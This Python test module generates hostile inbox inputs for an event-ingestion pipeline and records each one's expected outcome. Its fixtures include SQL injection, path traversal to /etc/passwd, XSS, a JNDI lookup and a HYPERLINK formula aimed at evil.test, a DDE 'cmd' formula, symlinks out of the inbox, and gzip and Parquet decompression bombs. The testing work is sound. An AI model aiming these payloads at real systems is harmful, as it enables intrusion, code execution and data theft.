"""A generated corpus of hostile inbox input, each case with the outcome the contract and the docs give it.

Two kinds of case:

- a *record* case is one JSON Lines record (raw bytes); all of them go, one per line, into one
  `.jsonl` file and one `.jsonl.gz` file (another org, so the two copies never meet as duplicates),
  and the CSV/Parquet-expressible ones into one `.csv` and one `.parquet`;
- a *file* case is a whole inbox entry (an odd name, a gzip oddity, an encoding, a link, a pipe…).

Outcomes: `accepted`, `duplicate`, a quarantine reason code, `skipped` (the entry is not read: a link,
a pipe, a dotfile, an unknown suffix, a copy of a file already read) or `empty` (read, no records).
A file whose records end differently is their outcomes joined by `+`. `quarantined` matches any
reason code: the code of a case another branch is adding is not known here yet.

`python -m tests.hostile.corpus` prints the table that docs/security.md holds.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import orjson
import pyarrow as pa
import pyarrow.parquet as pq

from dagster_project.contract.events import ENVELOPE_FIELDS, MAX_ID_LENGTH
from dagster_project.ingestion.files import GZIP_MAX_RATIO, GZIP_RATIO_FLOOR

ORGS = {"jsonl": "hostile-a", "jsonl.gz": "hostile-b", "csv": "hostile-c", "parquet": "hostile-d"}
RECORD_FILES = {
    "jsonl": "records.jsonl",
    "jsonl.gz": "records.jsonl.gz",
    "csv": "records.csv",
    "parquet": "records.parquet",
}

# Work in progress elsewhere marks a case `pending` with its issue item (an xfail(strict=True) that
# flips when the work lands). None is pending now: the validation work (issue 16 item 5, issue 17
# items 1 and 5) has landed.
I16_5 = I17_1 = I17_5 = None


@dataclass(frozen=True, eq=False)  # identity: a case is itself (its record may be a dict)
class RecordCase:
    category: str
    name: str
    record: dict | bytes  # a dict is serialised by `dumps`; bytes are the line as written
    expected: str
    pending: str | None = None  # the issue item whose merge makes this case pass
    tabular: bool = False  # also expressible as CSV/Parquet string cells (then `csv`/`parquet` below)
    csv: str | None = None  # the outcome in CSV when it differs (an empty cell is null there)
    parquet: str | None = None

    def line(self, org: str, n: int) -> bytes:
        """The record as written into the copy for `org`, as its `n`-th line."""
        raw = self.record if isinstance(self.record, bytes) else dumps(self.record)
        return raw.replace(b'"$id"', b'"r%d"' % n).replace(b'"$org"', b'"' + org.encode() + b'"')


@dataclass(frozen=True, eq=False)  # identity: a case is itself (its record may be a dict)
class FileCase:
    category: str
    name: str
    write: Callable[[Path], Path | None]  # writes the entry into the inbox; returns its path
    expected: str
    pending: str | None = None
    alone: bool = False  # ingested in a run of its own (an empty file's hash is every empty file's)


def dumps(record: dict) -> bytes:
    """JSON as an exporter might write it (stdlib: integers of any size, non-ASCII kept)."""
    return json.dumps(record, ensure_ascii=False, separators=(",", ":")).encode()


def base(**overrides) -> dict:
    record = {
        "event_id": "$id",
        "org_id": "$org",
        "occurred_at": "2026-10-05T09:14:03.120000-05:00",
        "event_name": "signal.created",
        "entity_type": "signal",
        "entity_id": "sig-1",
        "actor": "ann@acme.test",
        "payload": {"source_type": "email", "urgency": 0.5},
    }
    record.update(overrides)
    return record


def without(field: str, **overrides) -> dict:
    record = base(**overrides)
    del record[field]
    return record


def _nested(depth: int) -> bytes:
    """A record whose payload holds lists nested `depth` deep (built as text: encoders recurse)."""
    return dumps(base(payload={"source_type": "web", "deep": "$deep"})).replace(
        b'"$deep"', b"[" * depth + b"1" + b"]" * depth
    )


STRING_FIELDS = ("event_id", "org_id", "occurred_at", "event_name", "entity_type", "entity_id")

# JSON values of the wrong kind for a string field (and for the payload object).
WRONG_KINDS = {
    "int": 1,
    "float": 1.5,
    "negative": -7,
    "huge_int": 10**30,
    "true": True,
    "false": False,
    "empty_list": [],
    "list": ["x"],
    "empty_object": {},
    "object": {"a": 1},
}

# Hostile text: what each string field makes of it.
HOSTILE_TEXT = {
    "empty": "",
    "space": " ",
    "at_limit": "a" * MAX_ID_LENGTH,
    "over_limit": "a" * (MAX_ID_LENGTH + 1),
    "ten_thousand": "x" * 10_000,
    "sql": "'; drop table raw.events; --",
    "path": "../../../etc/passwd",
    "formula": '=HYPERLINK("http://evil.test","x")',
    "html": "<script>alert(1)</script>",
    "bidi": "\u202egnp.exe",
    "newline": "a\nb",
    "nul": "a\u0000b",
    "emoji": "😀",
    "format": "%s%n${jndi:ldap://evil.test/a}",
    "upper": "ACME",
    "dotdot": "..",
}


def _text_outcome(field: str, key: str, value: str) -> str:
    """What the contract says each envelope string field makes of a hostile text."""
    if field in ("event_id", "entity_id"):
        return "bad_id" if value == "" or len(value) > MAX_ID_LENGTH else "accepted"
    if field == "org_id":
        return "bad_org_id"
    if field == "event_name":
        return "unknown_event"
    if field == "entity_type":
        return "entity_type_mismatch"
    return "bad_timestamp"  # occurred_at


def record_cases() -> list[RecordCase]:
    cases: list[RecordCase] = [RecordCase("baseline", "valid", base(), "accepted", tabular=True)]

    for field in (*STRING_FIELDS, "actor", "payload"):
        for kind, value in WRONG_KINDS.items():
            if field == "payload" and kind in ("empty_object", "object"):
                expected = "missing_field"  # an object, but signal.created requires `source_type`
            elif field == "payload" and kind == "huge_int":
                expected = "number_overflow"  # the payload's numbers are checked before its type
            else:
                expected = "wrong_type"
            cases.append(RecordCase("wrong type", f"{field}={kind}", base(**{field: value}), expected))
        nullable = field == "actor"
        cases.append(
            RecordCase(
                "missing", f"{field}=null", base(**{field: None}), "accepted" if nullable else "missing_field"
            )
        )
        cases.append(
            RecordCase(
                "missing", f"{field} absent", without(field), "accepted" if nullable else "missing_field"
            )
        )

    for field in STRING_FIELDS:
        for key, value in HOSTILE_TEXT.items():
            if field == "event_id" and key != "empty":
                record = base(event_id=f"{value}-{field}")  # unique, still hostile
                expected = "accepted" if len(value) + len(field) + 1 <= MAX_ID_LENGTH else "bad_id"
            else:
                record = base(**{field: value})
                expected = _text_outcome(field, key, value)
            csv = "missing_field" if value == "" else None  # an empty CSV cell is null
            cases.append(
                RecordCase("hostile text", f"{field}={key}", record, expected, tabular=True, csv=csv)
            )
    for key, value in HOSTILE_TEXT.items():
        cases.append(
            RecordCase(
                "hostile text", f"actor={key}", base(actor=value), "accepted", tabular=True, csv="accepted"
            )
        )
        cases.append(
            RecordCase(
                "hostile text",
                f"payload.owner={key}",
                base(payload={"source_type": "web", "owner": value}),
                "accepted",
                tabular=True,
            )
        )

    timestamps = [
        ("utc_z", "2026-10-05T09:14:03Z", "accepted", None),
        ("offset", "2026-10-05T09:14:03+02:00", "accepted", None),
        ("minus_zero_offset", "2026-10-05T09:14:03-00:00", "accepted", None),
        ("space_separator", "2026-10-05 09:14:03Z", "accepted", None),
        ("nanoseconds", "2026-10-05T09:14:03.123456789Z", "accepted", None),
        ("lowercase_t_z", "2026-10-05t09:14:03z", "accepted", I17_5),
        ("extreme_offset", "1900-01-01T00:00:00+23:59", "accepted", None),
        ("first_instant", "0001-01-01T00:00:00Z", "accepted", None),
        ("epoch", "1970-01-01T00:00:00Z", "accepted", None),
        ("within_tolerance", "2026-11-28T12:04:59Z", "accepted", None),
        ("past_tolerance", "2026-11-28T12:05:01Z", "future_timestamp", None),
        ("year_9999", "9999-12-31T23:59:59Z", "future_timestamp", None),
        ("naive", "2026-10-05T09:14:03", "naive_timestamp", None),
        ("date_only", "2026-10-05", "naive_timestamp", None),
        ("month_13", "2026-13-05T00:00:00Z", "bad_timestamp", None),
        ("february_30", "2026-02-30T00:00:00Z", "bad_timestamp", None),
        ("hour_25", "2026-10-05T25:00:00Z", "bad_timestamp", None),
        ("offset_24h", "2026-10-05T09:14:03+24:00", "bad_timestamp", None),
        ("ten_fraction_digits", "2026-10-05T09:14:03.1234567891Z", "bad_timestamp", None),
        ("year_zero", "0000-06-01T00:00:00Z", "bad_timestamp", I17_1),
        ("before_year_one_in_utc", "0001-01-01T00:30:00+01:00", "bad_timestamp", I17_1),
        ("negative_year", "-0001-01-01T00:00:00Z", "bad_timestamp", I17_1),
        ("five_digit_year", "12026-01-01T00:00:00Z", "bad_timestamp", I17_1),
        ("iso_week", "2026-W40-1T00:00:00Z", "bad_timestamp", None),
        ("epoch_seconds_text", "1728000000", "bad_timestamp", None),
        ("zone_name", "2026-10-05T09:14:03Z[Europe/Paris]", "bad_timestamp", None),
        ("fullwidth_digits", "２０２６-10-05T09:14:03Z", "bad_timestamp", None),
        ("trailing_space", "2026-10-05T09:14:03Z ", "bad_timestamp", None),
    ]
    for name, value, expected, pending in timestamps:
        cases.append(RecordCase("timestamp", name, base(occurred_at=value), expected, pending, tabular=True))

    signal = {"source_type": "email"}
    payloads = [
        ("urgency=0", {**signal, "urgency": 0}, "accepted", None),
        ("urgency=1", {**signal, "urgency": 1}, "accepted", None),
        ("urgency=-0.0", {**signal, "urgency": -0.0}, "accepted", None),
        ("urgency=1e-300", {**signal, "urgency": 1e-300}, "accepted", None),
        ("urgency just over 1", {**signal, "urgency": 1.0000001}, "out_of_range", None),
        ("urgency=-1e-300", {**signal, "urgency": -1e-300}, "out_of_range", None),
        ("urgency=1e308", {**signal, "urgency": 1e308}, "out_of_range", None),
        ("urgency=10**30", {**signal, "urgency": 10**30}, "number_overflow", None),
        ("urgency as text", {**signal, "urgency": "0.5"}, "wrong_type", None),
        ("urgency=true", {**signal, "urgency": True}, "wrong_type", None),
        ("urgency=[0.5]", {**signal, "urgency": [0.5]}, "wrong_type", None),
        ("source_type unknown", {"source_type": "carrier-pigeon"}, "out_of_range", None),
        ("source_type case", {"source_type": "EMAIL"}, "out_of_range", None),
        ("megabyte string", {**signal, "contact_name": "n" * (1 << 20)}, "accepted", None),
        ("ten thousand keys", {**signal, **{f"k{i}": i for i in range(10_000)}}, "accepted", None),
        ("unknown keys kept", {**signal, "__proto__": {"admin": True}, "constructor": 1}, "accepted", None),
    ]
    for name, payload, expected, pending in payloads:
        cases.append(RecordCase("payload", name, base(payload=payload), expected, pending))
    cases += [
        RecordCase("payload", "nested 100 deep", _nested(100), "too_deep"),
        RecordCase("payload", "nested 2000 deep", _nested(2000), "quarantined", I17_1),
        RecordCase("payload", "nested 100000 deep", _nested(100_000), "quarantined", I17_1),
    ]
    events = [
        (
            "value_band not in its set",
            base(
                event_name="candidate.created",
                entity_type="candidate",
                payload={"title": "t", "value_band": "gigantic"},
            ),
            "out_of_range",
        ),
        (
            "title missing",
            base(event_name="candidate.created", entity_type="candidate", payload={}),
            "missing_field",
        ),
        (
            "title null",
            base(event_name="candidate.created", entity_type="candidate", payload={"title": None}),
            "missing_field",
        ),
        (
            "done as text",
            base(
                event_name="pursuit.checklist_item_set",
                entity_type="pursuit",
                payload={"checklist": "pink", "item": "i", "done": "true"},
            ),
            "wrong_type",
        ),
        (
            "done as 1",
            base(
                event_name="pursuit.checklist_item_set",
                entity_type="pursuit",
                payload={"checklist": "pink", "item": "i", "done": 1},
            ),
            "wrong_type",
        ),
        (
            "version 0",
            base(
                event_name="pursuit.proposal_sent",
                entity_type="pursuit",
                payload={"proposal_id": "p", "version": 0},
            ),
            "out_of_range",
        ),
        (
            "version 1.5",
            base(
                event_name="pursuit.proposal_sent",
                entity_type="pursuit",
                payload={"proposal_id": "p", "version": 1.5},
            ),
            "wrong_type",
        ),
        (
            "compliance 10.5",
            base(event_name="pursuit.updated", entity_type="pursuit", payload={"compliance_score": 10.5}),
            "out_of_range",
        ),
        (
            "negative forecast",
            base(event_name="pursuit.updated", entity_type="pursuit", payload={"forecast_value_usd": -1}),
            "out_of_range",
        ),
        (
            "due_date with time",
            base(
                event_name="pursuit.updated",
                entity_type="pursuit",
                payload={"due_date": "2026-10-05T00:00:00Z"},
            ),
            "wrong_type",
        ),
        (
            "due_date as number",
            base(event_name="pursuit.updated", entity_type="pursuit", payload={"due_date": 20261005}),
            "wrong_type",
        ),
        (
            "stage unknown",
            base(event_name="pursuit.stage_changed", entity_type="pursuit", payload={"to": "champagne"}),
            "out_of_range",
        ),
        (
            "config value any JSON",
            base(
                event_name="config.changed",
                entity_type="org",
                entity_id="o",
                payload={"key": "k", "value": {"nested": [1, None, "x"]}},
            ),
            "accepted",
        ),
        (
            "config key missing",
            base(event_name="config.changed", entity_type="org", entity_id="o", payload={"value": 1}),
            "missing_field",
        ),
        (
            "memory trust_weight 2",
            base(
                event_name="memory.recorded",
                entity_type="signal",
                payload={"atom_type": "note", "content": "c", "source": {"trust_weight": 2}},
            ),
            "out_of_range",
        ),
        (
            "memory expires year 0",
            base(
                event_name="memory.recorded",
                entity_type="signal",
                payload={"atom_type": "note", "content": "c", "expires_at": "0000-01-01T00:00:00Z"},
            ),
            "bad_timestamp",
        ),
        ("entity type of another event", base(entity_type="pursuit"), "entity_type_mismatch"),
    ]
    pending_events = {"memory trust_weight 2": I16_5, "memory expires year 0": I17_1}
    for name, record, expected in events:
        cases.append(RecordCase("payload", name, record, expected, pending_events.get(name)))

    valid = dumps(base(event_id="dup-src", org_id="hostile-x"))
    raw_lines = [
        ("not json", b"{not json", "bad_json"),
        ("open brace", b"{", "bad_json"),
        ("close brace", b"}", "bad_json"),
        ("array", b"[1,2]", "bad_json"),
        ("array of the record", b"[" + valid + b"]", "bad_json"),
        ("string", b'"text"', "bad_json"),
        ("number", b"12", "bad_json"),
        ("null", b"null", "bad_json"),
        ("true", b"true", "bad_json"),
        ("empty object", b"{}", "missing_field"),
        ("two objects on a line", valid + valid, "bad_json"),
        ("trailing comma", valid[:-1] + b",}", "bad_json"),
        ("NaN", dumps(base()).replace(b"0.5", b"NaN"), "bad_json"),
        ("Infinity", dumps(base()).replace(b"0.5", b"-Infinity"), "bad_json"),
        ("comment", b"// " + valid, "bad_json"),
        ("single quotes", b"{'event_id': 'x'}", "bad_json"),
        ("unquoted keys", b"{event_id: 1}", "bad_json"),
        ("raw NUL outside strings", b"{\x00}", "bad_json"),
        (
            "byte-order mark mid-file",
            b"\xef\xbb\xbf" + dumps(base(event_id="bom-mid", org_id="hostile-x")),
            "bad_json",
        ),
        ("invalid UTF-8 byte", dumps(base()).replace(b"ann", b"a\xffn"), "bad_encoding"),
        ("overlong UTF-8", dumps(base()).replace(b"ann", b"a\xc0\xafn"), "bad_encoding"),
        ("UTF-8 encoded surrogate", dumps(base()).replace(b"ann", b"a\xed\xa0\x80n"), "bad_encoding"),
        ("truncated UTF-8", dumps(base()).replace(b"ann", b"a\xe2\x82n"), "bad_encoding"),
        ("Latin-1 text", dumps(base()).replace(b"ann", b"caf\xe9"), "bad_encoding"),
        ("escaped NUL in a string", dumps(base()).replace(b"ann@", b"a\\u0000n@"), "accepted"),
        ("lone surrogate escape", dumps(base()).replace(b"ann@", b"a\\ud800n@"), "bad_json"),
        ("raw U+2028 in a string", dumps(base(actor="a\u2028b\u2029c")), "accepted"),
        ("lone CR between records", valid + b"\r" + valid, "bad_json"),
        ("CRLF ending", dumps(base()) + b"\r", "accepted"),
        ("padded with tabs", b"\t \t" + dumps(base()) + b"\t ", "accepted"),
        ("duplicate envelope key", dumps(base())[:-1] + b',"org_id":"other-org"}', "duplicate_key"),
        (
            "duplicate payload key",
            dumps(base()).replace(b'"urgency":0.5', b'"urgency":0.5,"urgency":7'),
            "duplicate_key",
        ),
        ("duplicate key, same value", dumps(base())[:-1] + b',"actor":"ann@acme.test"}', "duplicate_key"),
    ]
    pending_lines = {
        "duplicate envelope key": I17_5,
        "duplicate payload key": I17_5,
        "duplicate key, same value": I17_5,
    }
    for name, line, expected in raw_lines:
        cases.append(RecordCase("raw line", name, line, expected, pending_lines.get(name)))

    # The same event twice, and a changed copy: duplicates are counted, conflicts quarantined.
    twin = base(event_id="twin")
    cases += [
        RecordCase("duplicates", "first copy", twin, "accepted"),
        RecordCase("duplicates", "identical copy", twin, "duplicate"),
        RecordCase(
            "duplicates", "same content, keys reordered", dict(reversed(list(twin.items()))), "duplicate"
        ),
        RecordCase(
            "duplicates",
            "same id, other content",
            base(event_id="twin", actor="mallory"),
            "conflicting_duplicate",
        ),
    ]
    return cases


# -- file cases ---------------------------------------------------------------------------------------

LONG_AGO = 10**9  # a modification time far before the clock: the file has settled


def _settle(path: Path) -> Path:
    os.utime(path, (LONG_AGO, LONG_AGO), follow_symlinks=False)
    return path


def _one_event(name: str) -> dict:
    """A valid event of its own: a file's content is unique unless a case copies it on purpose."""
    return base(event_id=f"file-{name}", org_id="hostile-files", entity_id=f"sig-{name}")


def _jsonl(records: list[dict]) -> bytes:
    return b"".join(dumps(r) + b"\n" for r in records)


def _csv_bytes(records: list[dict], header: list[str] | None = None, sep: str = ",") -> bytes:
    import csv

    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=sep)
    header = header or list(ENVELOPE_FIELDS)
    writer.writerow(header)
    for r in records:
        writer.writerow(
            [
                "" if r.get(h) is None else (orjson.dumps(r[h]).decode() if h == "payload" else r[h])
                for h in header
            ]
        )
    return out.getvalue().encode()


def _parquet_bytes(columns: dict[str, pa.Array]) -> bytes:
    sink = io.BytesIO()
    pq.write_table(pa.table(columns), sink)
    return sink.getvalue()


def _string_columns(records: list[dict]) -> dict[str, pa.Array]:
    return {
        f: pa.array([orjson.dumps(r[f]).decode() if f == "payload" else r[f] for r in records], pa.string())
        for f in ENVELOPE_FIELDS
    }


def _bytes_file(name: str, data: bytes) -> Callable[[Path], Path]:
    def write(inbox: Path) -> Path:
        path = inbox / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return _settle(path)

    return write


def _gzip_bomb(size: int) -> bytes:
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b"\n" * (1 << 20)
    return b"".join(deflate.compress(block) for _ in range(size >> 20)) + deflate.flush()


ODD_STEMS = [
    "g[1]",
    "a*b",
    "a?b",
    "**",
    "x{a,b}",
    "[!z]",
    "back\\slash",
    "with space",
    "quo\"te's",
    "new\nline",
    "tab\tcr\r",
    "ünïcødé-😀-日本",
    "%20$HOME~",
    "-leading-dash",
    "a" * 200,
]


OUTSIDE = "outside"  # a folder beside the inbox, with a valid event file no inbox entry may bring in
SECRET_ORG = "hostile-secret"


def write_outside(inbox: Path) -> Path:
    folder = inbox.parent / OUTSIDE
    folder.mkdir(exist_ok=True)
    secret = base(event_id="secret", org_id=SECRET_ORG)
    (folder / "secret.jsonl").write_bytes(_jsonl([secret]))
    _settle(folder / "secret.jsonl")
    return folder


def file_cases() -> list[FileCase]:
    cases: list[FileCase] = []
    for i, stem in enumerate(ODD_STEMS):
        for fmt, data in (
            ("jsonl", _jsonl([_one_event(f"name{i}-jsonl")])),
            ("jsonl.gz", gzip.compress(_jsonl([_one_event(f"name{i}-gz")]), mtime=0)),
            ("csv", _csv_bytes([_one_event(f"name{i}-csv")])),
            ("parquet", _parquet_bytes(_string_columns([_one_event(f"name{i}-parquet")]))),
        ):
            cases.append(
                FileCase("file name", f"{stem!r}.{fmt}", _bytes_file(f"{stem}.{fmt}", data), "accepted")
            )

    def ev(name: str) -> bytes:
        return _jsonl([_one_event(name)])

    cases += [
        FileCase(
            "inbox entry", "upper-case suffix .JSONL", _bytes_file("UPPER.JSONL", ev("upper")), "accepted"
        ),
        FileCase(
            "inbox entry",
            "file in a subfolder",
            _bytes_file("sub/dir/in-folder.jsonl", ev("sub")),
            "accepted",
        ),
        FileCase("inbox entry", "dotfile", _bytes_file(".hidden.jsonl", ev("dot")), "skipped"),
        FileCase("inbox entry", "file in a dot folder", _bytes_file(".git/x.jsonl", ev("dotdir")), "skipped"),
        FileCase("inbox entry", "temporary name", _bytes_file("partial.jsonl.tmp", ev("tmp")), "skipped"),
        FileCase("inbox entry", "unknown suffix", _bytes_file("notes.txt", ev("txt")), "skipped"),
        FileCase(
            "inbox entry", "suffix only in the middle", _bytes_file("x.jsonl.bak", ev("bak")), "skipped"
        ),
        FileCase(
            "inbox entry",
            "same bytes under a second name",
            _bytes_file("zz-copy-of-upper.jsonl", ev("upper")),
            "skipped",
        ),
        FileCase("inbox entry", "empty .jsonl", _bytes_file("empty.jsonl", b""), "empty", alone=True),
        FileCase("inbox entry", "only blank lines", _bytes_file("blank.jsonl", b"\n \n\t\r\n\n"), "empty"),
        FileCase(
            "inbox entry", "4 MiB of newlines", _bytes_file("newlines.jsonl", b"\n" * (4 << 20)), "empty"
        ),
        FileCase(
            "inbox entry",
            "a record among 1 MiB of whitespace lines",
            _bytes_file(
                "spaces.jsonl", b" \r\n\t\n" * (1 << 18) + ev("among-blanks") + b"\x0b\n" * (1 << 18)
            ),
            "accepted",
        ),
    ]

    def link(name: str, target: str) -> Callable[[Path], Path]:
        """A link to `target`: absolute, or a path in the folder beside the inbox."""

        def write(inbox: Path) -> Path:
            (inbox / name).symlink_to(
                Path(target) if target.startswith("/") else write_outside(inbox) / target
            )
            return inbox / name

        return write

    def fifo(inbox: Path) -> Path:
        os.mkfifo(inbox / "pipe.jsonl")
        return inbox / "pipe.jsonl"

    def folder_named_like_a_file(inbox: Path) -> Path:
        (inbox / "folder.jsonl").mkdir()
        return inbox / "folder.jsonl"

    cases += [
        FileCase(
            "link or special file",
            "link to a file outside",
            link("to-secret.jsonl", "secret.jsonl"),
            "skipped",
        ),
        FileCase(
            "link or special file", "link to /etc/passwd", link("passwd.jsonl", "/etc/passwd"), "skipped"
        ),
        FileCase("link or special file", "link to a folder outside", link("to-outside", "."), "skipped"),
        FileCase("link or special file", "dangling link", link("dangling.jsonl", "nothing.jsonl"), "skipped"),
        FileCase("link or special file", "named pipe", fifo, "skipped"),
        FileCase("link or special file", "folder named like a file", folder_named_like_a_file, "skipped"),
    ]

    good = _jsonl([_one_event("gz")])
    member = gzip.compress(good, mtime=0)
    bad_crc = member[:-8] + struct.pack("<I", zlib.crc32(good) ^ 1) + member[-4:]
    bad_size = member[:-4] + struct.pack("<I", len(good) + 1)
    named = io.BytesIO()
    with gzip.GzipFile(filename="inner name.jsonl", mode="wb", fileobj=named, mtime=0) as handle:
        handle.write(_jsonl([_one_event("gz-named")]))
    bomb = _gzip_bomb(4 * GZIP_RATIO_FLOOR)
    assert len(bomb) * GZIP_MAX_RATIO < 4 * GZIP_RATIO_FLOOR
    cases += [
        FileCase(
            "gzip",
            "several members",
            _bytes_file("members.jsonl.gz", member + gzip.compress(_jsonl([_one_event("gz-2")]), mtime=0)),
            "accepted",
        ),
        FileCase(
            "gzip",
            "zero padding after the stream",
            _bytes_file(
                "padded.jsonl.gz", gzip.compress(_jsonl([_one_event("gz-pad")]), mtime=0) + b"\0" * 4096
            ),
            "accepted",
        ),
        FileCase(
            "gzip", "header with a file name", _bytes_file("named.jsonl.gz", named.getvalue()), "accepted"
        ),
        FileCase("gzip", "empty file", _bytes_file("empty.jsonl.gz", b""), "empty", alone=True),
        FileCase(
            "gzip", "empty stream", _bytes_file("empty-stream.jsonl.gz", gzip.compress(b"", mtime=0)), "empty"
        ),
        FileCase("gzip", "truncated", _bytes_file("truncated.jsonl.gz", member[:-10]), "unreadable_file"),
        FileCase("gzip", "header only", _bytes_file("header.jsonl.gz", member[:10]), "unreadable_file"),
        FileCase(
            "gzip",
            "trailing garbage",
            _bytes_file("garbage.jsonl.gz", member + b"garbage"),
            "unreadable_file",
        ),
        FileCase("gzip", "wrong CRC", _bytes_file("crc.jsonl.gz", bad_crc), "unreadable_file"),
        FileCase("gzip", "wrong length", _bytes_file("isize.jsonl.gz", bad_size), "unreadable_file"),
        FileCase("gzip", "not gzip at all", _bytes_file("plain.jsonl.gz", good), "unreadable_file"),
        FileCase(
            "gzip",
            "zlib stream, not gzip",
            _bytes_file("zlib.jsonl.gz", zlib.compress(good)),
            "unreadable_file",
        ),
        FileCase(
            "gzip",
            "padding before the stream",
            _bytes_file("lead.jsonl.gz", b"\0" + member),
            "unreadable_file",
        ),
        FileCase(
            "gzip", "decompression bomb (newlines)", _bytes_file("bomb.jsonl.gz", bomb), "unreadable_file"
        ),
        FileCase(
            "gzip",
            "gzip inside gzip",
            _bytes_file("double.jsonl.gz", gzip.compress(member, mtime=0)),
            "bad_encoding",
        ),
    ]

    utf8 = _jsonl([_one_event("enc")])
    cases += [
        FileCase(
            "encoding",
            "UTF-8 byte-order mark",
            _bytes_file("bom.jsonl", b"\xef\xbb\xbf" + ev("bom")),
            "accepted",
        ),
        FileCase(
            "encoding",
            "two byte-order marks",
            _bytes_file("bom2.jsonl", b"\xef\xbb\xbf" * 2 + ev("bom2")),
            "bad_json",
        ),
        FileCase(
            "encoding",
            "UTF-16 with BOM",
            _bytes_file("utf16.jsonl", utf8.decode().encode("utf-16")),
            "bad_encoding+bad_json",
        ),
        FileCase(
            "encoding",
            "UTF-16LE without BOM",
            _bytes_file(
                "utf16le.jsonl", _jsonl([_one_event("le")]).rstrip(b"\n").decode().encode("utf-16-le")
            ),
            "bad_json",
        ),
        FileCase(
            "encoding",
            "CSV in Latin-1",
            _bytes_file("latin1.csv", _csv_bytes([_one_event("latin")]).replace(b"ann@", b"ren\xe9@")),
            "bad_encoding",
        ),
        FileCase(
            "encoding",
            "CSV with a byte-order mark",
            _bytes_file("bom.csv", b"\xef\xbb\xbf" + _csv_bytes([_one_event("csv-bom")])),
            "accepted",
        ),
    ]

    row = _one_event("csv")
    body = _csv_bytes([row])
    header_line = body.split(b"\r\n", 1)[0]
    cases += [
        FileCase("CSV", "empty file", _bytes_file("empty.csv", b""), "bad_header"),
        FileCase("CSV", "header only", _bytes_file("header-only.csv", header_line + b"\r\n"), "empty"),
        FileCase(
            "CSV",
            "a column missing",
            _bytes_file(
                "missing-col.csv", _csv_bytes([row], header=[f for f in ENVELOPE_FIELDS if f != "actor"])
            ),
            "bad_header",
        ),
        FileCase(
            "CSV",
            "semicolon separated",
            _bytes_file("semicolon.csv", _csv_bytes([row], sep=";")),
            "bad_header",
        ),
        FileCase(
            "CSV",
            "extra column",
            _bytes_file(
                "extra.csv",
                _csv_bytes([{**_one_event("csv-extra"), "x": "1"}], header=[*ENVELOPE_FIELDS, "x"]),
            ),
            "accepted",
        ),
        FileCase("CSV", "short row", _bytes_file("short.csv", header_line + b"\r\na,b\r\n"), "malformed_row"),
        FileCase(
            "CSV",
            "long row",
            _bytes_file("long.csv", header_line + b"\r\n" + b"," * 12 + b"\r\n"),
            "malformed_row",
        ),
        FileCase(
            "CSV",
            "quoted newline in a cell",
            _bytes_file("quoted.csv", _csv_bytes([_one_event("csv-nl") | {"actor": "line1\nline2"}])),
            "accepted",
        ),
        FileCase(
            "CSV",
            "unterminated quote",
            _bytes_file("quote.csv", header_line + b'\r\n"abc\r\n'),
            "malformed_row",
        ),
        FileCase(
            "CSV",
            "formula in a cell",
            _bytes_file(
                "formula.csv", _csv_bytes([_one_event("csv-formula") | {"actor": "=cmd|' /C calc'!A0"}])
            ),
            "accepted",
        ),
    ]

    prow = _one_event("pq")
    cols = _string_columns([prow])
    padded = [
        _one_event(f"pq-bomb-{i}") | {"payload": {"source_type": "web", "owner": "a" * (1 << 20)}}
        for i in range(20)
    ]
    squeezed = io.BytesIO()
    pq.write_table(pa.table(_string_columns(padded)), squeezed, compression="zstd", use_dictionary=False)
    cases += [
        FileCase("Parquet", "not Parquet", _bytes_file("text.parquet", ev("pq-text")), "unreadable_file"),
        FileCase(
            "Parquet", "truncated", _bytes_file("cut.parquet", _parquet_bytes(cols)[:-20]), "unreadable_file"
        ),
        FileCase(
            "Parquet",
            "a column missing",
            _bytes_file("missing.parquet", _parquet_bytes({k: v for k, v in cols.items() if k != "actor"})),
            "bad_header",
        ),
        FileCase(
            "Parquet",
            "no rows",
            _bytes_file("none.parquet", _parquet_bytes({k: v.slice(0, 0) for k, v in cols.items()})),
            "empty",
        ),
        FileCase(
            "Parquet",
            "decompression bomb (pages)",
            _bytes_file("bomb.parquet", squeezed.getvalue()),
            "unreadable_file",
        ),
        FileCase(
            "Parquet",
            "struct payload column",
            _bytes_file(
                "struct.parquet", _parquet_bytes({**cols, "payload": pa.array([{"source_type": "web"}])})
            ),
            "unreadable_file",
        ),
        FileCase(
            "Parquet",
            "binary columns",
            _bytes_file(
                "binary.parquet",
                _parquet_bytes(
                    {k: v.cast(pa.binary()) for k, v in _string_columns([_one_event("pq-bin")]).items()}
                ),
            ),
            "accepted",
        ),
        FileCase(
            "Parquet",
            "dictionary-encoded text",
            _bytes_file(
                "dict.parquet",
                _parquet_bytes(
                    {k: v.dictionary_encode() for k, v in _string_columns([_one_event("pq-dict")]).items()}
                ),
            ),
            "accepted",
        ),
        FileCase(
            "Parquet",
            "int64 event_id",
            _bytes_file(
                "int-id.parquet",
                _parquet_bytes(
                    {**_string_columns([_one_event("pq-int")]), "event_id": pa.array([7], pa.int64())}
                ),
            ),
            "wrong_type",
            I17_5,
        ),
        FileCase(
            "Parquet",
            "int32 org_id",
            _bytes_file(
                "int-org.parquet",
                _parquet_bytes(
                    {**_string_columns([_one_event("pq-org")]), "org_id": pa.array([7], pa.int32())}
                ),
            ),
            "wrong_type",
            I17_5,
        ),
    ]
    return cases


def markdown_table(records: list[RecordCase], files: list[FileCase]) -> str:
    """The corpus as docs/security.md shows it: what was tried and how it ends."""
    rows = ["| kind | category | case | outcome |", "|---|---|---|---|"]

    def cell(text: str) -> str:
        shown = text if len(text) <= 60 else text[:57] + "…"
        return shown.encode("unicode_escape").decode("ascii").replace("|", "\\|").replace("`", "'")

    for c in records:
        outcome = c.expected + "".join(
            f"; {fmt}: {other}" for fmt, other in (("CSV", c.csv), ("Parquet", c.parquet)) if other
        )
        outcome += f" (once {c.pending.split(' (')[0]} merges)" if c.pending else ""
        formats = "JSONL, gz, CSV, Parquet" if c.tabular else "JSONL, gz"
        rows.append(f"| record ({formats}) | {c.category} | `{cell(c.name)}` | {outcome} |")
    for f in files:
        outcome = f.expected + (f" (once {f.pending.split(' (')[0]} merges)" if f.pending else "")
        rows.append(f"| file | {f.category} | `{cell(f.name)}` | {outcome} |")
    return "\n".join(rows) + "\n"


if __name__ == "__main__":
    print(markdown_table(record_cases(), file_cases()), end="")
